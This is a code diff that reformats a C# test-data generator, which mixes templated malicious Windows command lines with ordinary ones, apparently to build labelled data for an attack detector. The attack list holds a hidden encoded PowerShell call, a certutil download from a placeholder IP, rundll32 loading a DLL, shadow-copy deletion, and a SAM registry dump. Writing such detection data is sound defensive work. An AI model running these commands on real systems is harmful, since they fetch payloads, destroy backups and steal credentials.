@@ -14,13 +14,15 @@ internal static class Tiny
 
     private static readonly string[] Attacks =
     [
-        "powershell -nop -w hidden -enc {0}", "certutil -urlcache -split -f http://192.0.2.{0}/a.bin a{0}.bin", "rundll32 C:\\Users\\Public\\x{0}.dll,Start",
+        "powershell -nop -w hidden -enc {0}", "certutil -urlcache -split -f http://192.0.2.{0}/a.bin a{0}.bin",
+        "rundll32 C:\\Users\\Public\\x{0}.dll,Start",
         "cmd /c vssadmin delete shadows /all /quiet & echo {0}", "reg save hklm\\sam C:\\Temp\\sam{0}.hiv",
     ];
 
     private static readonly string[] Ordinary =
     [
-        "notepad C:\\Users\\mara\\Documents\\notes{0}.txt", "svchost -k netsvcs -p -s Service{0}", "msiexec /i C:\\Packages\\app{0}.msi /qn", "git status --porcelain={0}", "chrome --type=renderer --id={0}",
+        "notepad C:\\Users\\mara\\Documents\\notes{0}.txt", "svchost -k netsvcs -p -s Service{0}",
+        "msiexec /i C:\\Packages\\app{0}.msi /qn", "git status --porcelain={0}", "chrome --type=renderer --id={0}",
     ];
 
     /// <summary>Rows of ten datasets: in each some attacks and some ordinary rows; one tuple is in two datasets.</summary>
@@ -50,7 +52,8 @@ internal static class Tiny
         for (var i = 0; i < 200; i++)
         {
             var isAttack = i % 2 == 1;
-            var commandLine = string.Format(System.Globalization.CultureInfo.InvariantCulture, (isAttack ? Attacks : Ordinary)[i / 2 % 5], i);
+            var commandLine =
+                string.Format(System.Globalization.CultureInfo.InvariantCulture, (isAttack ? Attacks : Ordinary)[i / 2 % 5], i);
             var child = commandLine.Split(' ')[0] + ".exe";
             yield return new()
             {
